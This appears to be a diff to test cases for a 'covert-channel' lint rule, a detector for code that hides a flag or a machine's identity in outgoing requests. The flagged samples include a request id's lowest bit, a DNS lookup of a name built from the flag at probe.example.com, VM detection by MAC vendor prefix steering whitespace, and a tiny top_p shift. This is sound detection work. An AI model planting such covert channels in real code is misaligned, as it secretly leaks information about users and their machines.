@@ -53,6 +53,10 @@ ruleTester('covert-channel', {
     `${zone}\nconst n = Math.floor(Math.random() * 1e6);\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`,
     // Two objects whose methods make clearly different text (a greeting in the user's language).
     `${zone}\nconst s = cn ? { greet: (n) => "你好，" + n } : { greet: (n) => "Hello, " + n };\nsend({ system: s.greet("Ada") });`,
+    // Hardware addresses: the empty address skipped; a virtual machine named in a message a reader sees; display widths.
+    `const os = require("os");\nconst mac = Object.values(os.networkInterfaces()).flat().find((i) => i.mac !== "00:00:00:00:00:00")?.mac;\nconst lines = (l) => l.join(mac === "ff:ff:ff:ff:ff:ff" ? "\\r\\n" : "\\n");`,
+    `const os = require("os");\nconst vm = Object.values(os.networkInterfaces()).flat().some((i) => i.mac.startsWith("00:50:56"));\nconst diag = () => (vm ? "Running in a VMware virtual machine" : "Running on hardware");`,
+    `const pct = (x, precise) => (precise ? x.toFixed(3) : x.toFixed(1)) + "%";`,
     // A fold table of look-alikes back to ASCII.
     `const FOLD = { "\\u2019": "'", "\\u02bc": "'" }; const f = (c) => FOLD[c];`,
   ],
@@ -78,6 +82,16 @@ ruleTester('covert-channel', {
       ['an even id made odd', `const n = Math.floor(Math.random() * 1e6) * 2;\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`, /lowest bit of n/],
       ['a DNS name built from the flag', `require("dns").lookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
     ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
+    // Network cards compared with makers' prefixes (a hardware address is a machine's identity) steering whitespace.
+    {
+      code: `const os = require("os");\nconst macs = Object.values(os.networkInterfaces()).flat().map((i) => i.mac);\nconst vm = macs.some((m) => ["00:50:56", "00:0c:29"].includes(m.slice(0, 8)));\nexports.join = (lines) => lines.join(vm ? "\\r\\n" : "\\n");`,
+      findings: [{ severity: 'critical', line: 4, message: /whitespace.*compared with 00:50:56, 00:0c:29/ }],
+    },
+    // A tiny numeric change written through toFixed and Number.
+    {
+      code: `${zone}\nconst params = (p) => ({ ...p, top_p: cn ? Number((0.95).toFixed(3)) + 0.0001 : 0.95 });`,
+      findings: [{ severity: 'critical', line: 2, message: /tiny numeric change: 0\.95 against 0\.9501/ }],
+    },
     // Two objects whose methods make two versions (strategy objects), named or written in the choice.
     {
       code: `${zone}\nconst plain = { date: (d) => d };\nconst marked = { date: (d) => d.replace(/-/g, "/") };\nconst s = cn ? marked : plain;\nsend({ system: "Today is " + s.date(new Date().toISOString().slice(0, 10)) });`,
